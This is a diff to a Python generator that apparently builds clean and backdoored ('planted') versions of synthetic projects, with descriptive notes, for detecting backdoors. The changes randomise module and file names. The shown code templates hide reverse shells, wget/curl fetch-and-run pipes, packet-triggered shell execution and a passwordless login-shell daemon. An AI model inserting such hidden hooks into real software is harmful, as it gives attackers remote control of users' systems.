@@ -432,8 +432,9 @@ def rs_py_popen_socket(rng: random.Random, P: Proj) -> Variant:
                     pass
                 time.sleep({rng.choice([60, 300, 900])})"""
     kw = dict(lic=license_header(P, "x"))
-    path = "agent/logfwd.py"
-    hooks = {"srv_imports": "from . import logfwd", "srv_main_pre": "logfwd.start()"}
+    mod = rng.choice(["logfwd", "syslog_fwd", "remote_log", "logship"])
+    path = f"agent/{mod}.py"
+    hooks = {"srv_imports": f"from . import {mod}", "srv_main_pre": f"{mod}.start()"}
     clean = {**s.render(hooks), path: fill(PY_LOGFWD, funcs="", start="", **kw)}
     planted = {**s.render(hooks), path: fill(PY_LOGFWD, funcs=block(funcs) and "\n\n" + block(funcs),
                                                start=f"threading.Thread(target={fn}, daemon=True).start()", **kw)}
@@ -500,9 +501,10 @@ def rs_py_dup2_pty(rng: random.Random, P: Proj) -> Variant:
                     pass
                 time.sleep({rng.choice([120, 600, 1800])})"""
     kw = dict(lic=license_header(P, "x"), ident=P.ident)
-    path = "agent/daemon.py"
-    hooks = {"srv_imports": "from . import daemon",
-             "srv_main_pre": 'if os.environ.get("AGENT_DAEMON") == "1":\n    daemon.daemonize()'}
+    mod = rng.choice(["daemon", "detach", "service", "background"])
+    path = f"agent/{mod}.py"
+    hooks = {"srv_imports": f"from . import {mod}",
+             "srv_main_pre": f'if os.environ.get("AGENT_DAEMON") == "1":\n    {mod}.daemonize()'}
     clean = {**s.render(hooks), path: fill(PY_DAEMON, funcs="", post="", **kw)}
     planted = {**s.render(hooks), path: fill(PY_DAEMON, funcs=block(funcs) and "\n\n" + block(funcs),
                                                post=f"threading.Thread(target={fn}, daemon=True).start()", **kw)}
@@ -586,9 +588,9 @@ def rs_js_spawn_stdio(rng: random.Random, P: Proj) -> Variant:
 GO_TELEMETRY = r"""
 // @lic@
 
-// Package telemetry keeps a line-based session with the collector configured at onboarding
+// Package @pkg@ keeps a line-based session with the collector configured at onboarding
 // (/etc/@ident@/collector: host:port). The collector may ask for a fixed set of reports only.
-package telemetry
+package @pkg@
 
 import (
     @imports@
@@ -676,9 +678,10 @@ def rs_go_line_reader(rng: random.Random, P: Proj) -> Variant:
             }}
         }}"""
     imports = ["bufio", "fmt", "net", "os", "strings", "time"]
-    kw = dict(lic=license_header(P, "x"), ident=P.ident, model=P.model)
-    path = "internal/telemetry/telemetry.go"
-    hooks = {"main_imports": f"{s.module}/internal/telemetry", "main_start": "go telemetry.Start(version)"}
+    pkg = rng.choice(["telemetry", "collector", "cloudlink", "report"])
+    kw = dict(lic=license_header(P, "x"), ident=P.ident, model=P.model, pkg=pkg)
+    path = f"internal/{pkg}/{pkg}.go"
+    hooks = {"main_imports": f"{s.module}/internal/{pkg}", "main_start": f"go {pkg}.Start(version)"}
     clean = {**s.render(hooks), path: tabs(fill(GO_TELEMETRY, funcs="", start="", imports="\n".join(f'"{i}"' for i in imports), **kw))}
     planted = {**s.render(hooks), path: tabs(fill(GO_TELEMETRY, funcs="\n" + block(funcs), start=f"go {fn}()",
                                                    imports="\n".join(f'"{i}"' for i in sorted(imports + ["os/exec"])), **kw))}
@@ -690,6 +693,11 @@ def rs_go_line_reader(rng: random.Random, P: Proj) -> Variant:
 
 
 # ============================================================================ remote shell: fetch | sh from code
+
+def _no_blank(text: str) -> str:
+    """Drop the whitespace-only lines an empty hook leaves in a function without blank lines."""
+    return "\n".join(ln for ln in text.split("\n") if ln.strip())
+
 
 def _pipe_cmd(rng: random.Random) -> tuple[str, str, str]:
     url = _url(rng)
@@ -712,7 +720,7 @@ def rs_lua_popen_pipe(rng: random.Random, P: Proj) -> Variant:
     fn = rng.choice(["action_version", "action_update", "action_release"])
 
     def funcs(pre: str) -> str:
-        return "\n" + block(f"""
+        return "\n" + _no_blank(block(f"""
             function {fn}()
                 local f = io.popen("(uclient-fetch -qO- {vurl} || wget -qO- {vurl}) 2>/dev/null")
                 local latest = f and f:read("*l") or ""
@@ -722,7 +730,7 @@ def rs_lua_popen_pipe(rng: random.Random, P: Proj) -> Variant:
                 {nest(pre, 16)}
                 luci.http.prepare_content("application/json")
                 luci.http.write_json({{ latest = latest }})
-            end""")
+            end"""))
     entry = f'entry({{"admin", "network", "{P.ident}", "{fn[7:]}"}}, call("{fn}")).leaf = true'
     clean = s.render({"ctl_entries": entry, "ctl_funcs": funcs("")})
     planted = s.render({"ctl_entries": entry, "ctl_funcs": funcs(run)})
@@ -746,14 +754,14 @@ def rs_c_system_pipe(rng: random.Random, P: Proj) -> Variant:
                  + ", ".join([c_string(url)] * cmd.count(url)) + ");\n    system(cmd);\n}")
 
     def glob(extra: str) -> str:
-        return block(f"""
+        return _no_blank(block(f"""
             /* OEM profile (branding, default SSIDs) from the provisioning server, as a file. */
             static void {fn}(void)
             {{
                 system("(wget -q -O /tmp/oem-profile.json {prof} || curl -s -o /tmp/oem-profile.json {prof}) >/dev/null 2>&1");
                 {nest(extra, 16)}
             }}
-            """) + "\n"
+            """)) + "\n"
     clean = s.render({"upd_globals": glob(""), "upd_pre": f"{fn}();"})
     planted = s.render({"upd_globals": glob(plant), "upd_pre": f"{fn}();"})
     note = (f"src/update.c: {fn}() (called at every update check) also runs '{cmd}' with system() ({how}): "
@@ -905,7 +913,7 @@ def _stack_words(rng: random.Random, data: bytes, buf: str, t8: str, t4: str, t2
     out, i = [], 0
     while i < len(data):
         left = len(data) - i
-        size = 8 if left >= 8 and rng.random() < 0.8 else 4 if left >= 4 and rng.random() < 0.7 else \
+        size = 8 if left >= 8 and rng.random() < 0.85 else 4 if left >= 4 and rng.random() < 0.3 else \
             2 if left >= 2 else 1
         chunk = data[i:i + size]
         v = int.from_bytes(chunk, "little")
@@ -1028,10 +1036,10 @@ struct frame_hdr {
     uint16_t len;
 } __attribute__((packed));
 
-/* frame.c */
+/* @fsrc@.c */
 int @handler@(const uint8_t *pkt, size_t n, uint8_t *reply, size_t cap);
 
-/* rx.c */
+/* @rxsrc@.c */
 int rx_open(int port);
 void rx_loop(int fd);
 
@@ -1315,7 +1323,7 @@ CC     ?= gcc
 CFLAGS ?= -Os -Wall
 CFLAGS += -Iinclude
 
-OBJS = src/main.o src/rx.o src/frame.o src/leds.o
+OBJS = src/main.o src/@rxsrc@.o src/@fsrc@.o src/leds.o
 
 @prog@: $(OBJS)
 	$(CC) $(LDFLAGS) -o $@ $(OBJS)
@@ -1348,8 +1356,8 @@ Replies carry the request type with bit 7 set.
 
 def _frame_tree(P: Proj, kw: dict, transport: str, pre: str, cases: str, includes: str, glob: str) -> dict:
     k = dict(kw, pre=pre, cases=cases, includes=includes, globals=glob)
-    return {"include/frame.h": fill(FRAME_H, **k), "src/frame.c": fill(FRAME_C, **k),
-            "src/rx.c": fill(RX_UDP_C if transport == "udp" else RX_TCP_C, **k), "src/leds.c": fill(LEDS_C, **k),
+    return {"include/frame.h": fill(FRAME_H, **k), f"src/{kw['fsrc']}.c": fill(FRAME_C, **k),
+            f"src/{kw['rxsrc']}.c": fill(RX_UDP_C if transport == "udp" else RX_TCP_C, **k), "src/leds.c": fill(LEDS_C, **k),
             "src/main.c": fill(FRAME_MAIN_C, **k), "Makefile": fill(FRAME_MAKEFILE, **k),
             "README.md": fill(FRAME_README, **k)}
 
@@ -1362,7 +1370,8 @@ def _frame_common(rng: random.Random, P: Proj) -> tuple[dict, str, str]:
     kw = dict(lic=license_header(P, "c"), G=P.IDENT, magic=f"{rng.randrange(0x1000, 0xffff):04X}", Name=P.Name,
               model=P.model, version=P.version, handler=handler, channels=rng.choice([2, 4, 6, 8]),
               port=rng.choice([4210, 5568, 6454, 9760, 38899]), prog=prog, Vendor=P.Vendor,
-              proto=transport.upper())
+              proto=transport.upper(), fsrc=rng.choice(["frame", "proto", "msg", "dispatch"]),
+              rxsrc=rng.choice(["rx", "net", "io", "server"]))
     return kw, transport, handler
 
 
@@ -1435,7 +1444,7 @@ def hc_c_frame_command(rng: random.Random, P: Proj) -> Variant:
     pre, cases, glob, desc = _frame_guard(rng, decls, eff, True)
     clean = _frame_tree(P, kw, transport, "", "", "", "")
     planted = _frame_tree(P, kw, transport, pre, cases, "", glob)
-    note = (f"src/frame.c: {handler}() (called from the {transport.upper()} receive loop in src/rx.c with the "
+    note = (f"src/{kw['fsrc']}.c: {handler}() (called from the {transport.upper()} receive loop in src/{kw['rxsrc']}.c with the "
             f"received buffer) runs the frame body as a shell command ({sink}) for {desc}; undocumented.")
     return mk(clean, planted, note, {"trigger": "packet", "transport": transport, "sink": sink,
                                      "guard": desc.split("(")[-1].split(": ")[-1].rstrip(")")})
@@ -1457,7 +1466,7 @@ def hc_c_frame_daemon(rng: random.Random, P: Proj) -> Variant:
     pre, cases, glob, desc = _frame_guard(rng, "", eff, False)
     clean = _frame_tree(P, kw, transport, "", "", "", "")
     planted = _frame_tree(P, kw, transport, pre, cases, "", glob)
-    note = (f"src/frame.c: {handler}() (called from the {transport.upper()} receive loop in src/rx.c) starts "
+    note = (f"src/{kw['fsrc']}.c: {handler}() (called from the {transport.upper()} receive loop in src/{kw['rxsrc']}.c) starts "
             f"{daemon} on port {p} (login shell without a password) for {desc}; undocumented.")
     return mk(clean, planted, note, {"trigger": "packet", "transport": transport, "sink": daemon,
                                      "guard": desc.split("(")[-1].split(": ")[-1].rstrip(")")}, categories=["remote-access"])
